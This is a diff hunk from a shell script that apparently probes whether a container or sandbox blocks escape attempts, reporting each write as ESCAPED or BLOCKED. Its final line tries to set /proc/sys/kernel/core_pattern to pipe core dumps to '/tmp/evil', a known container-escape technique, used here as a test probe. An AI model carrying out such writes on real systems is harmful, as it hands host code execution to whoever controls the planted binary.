@@ -4,7 +4,8 @@
 # hostname are global.
 escaped=0
 try_write() {  # path value
-  if echo "$2" > "$1" 2>/tmp/e; then echo "ESCAPED: wrote '$2' to $1"; escaped=1
+  if [ ! -e "$1" ]; then echo "BLOCKED: $1 does not exist here"; return; fi
+  if { echo "$2" > "$1"; } 2>/tmp/e; then echo "ESCAPED: wrote '$2' to $1"; escaped=1
   else echo "BLOCKED: write $1: $(sed 's/.*: //' /tmp/e)"; fi
 }
 try_write /proc/sys/kernel/core_pattern '|/tmp/evil %p'
